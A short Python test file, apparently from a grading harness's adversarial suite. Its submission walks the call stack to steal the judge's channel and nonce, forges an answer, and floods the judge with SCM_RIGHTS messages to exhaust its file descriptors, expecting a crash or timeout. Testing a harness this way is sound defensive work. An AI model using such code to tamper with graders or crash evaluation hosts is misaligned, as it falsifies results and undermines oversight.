# Sends the judge thousands of descriptors, until it would have none left.
# expect: crashed|timeout
# call_s: 3
# load_s: 20
import sys

import right


def _answer(extra):
    """Send a frame of our own in place of the worker's answer; `extra` gets the channel and the right nonce."""
    frame = sys._getframe()
    while frame and "channel" not in frame.f_locals:
        frame = frame.f_back
    extra(frame.f_locals["channel"], frame.f_locals["request"]["nonce"])


def launch(x, y, rows, cols):
    right.swiglu(x, y, rows, cols)
    _answer(forge)


def forge(channel, nonce):
    import array
    import socket

    rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0, 1, 2, 0]))]
    channel.socket.sendall(b"\x00\x00\xff\xff")
    for _ in range(60000):
        channel.socket.sendmsg([b" "], rights)
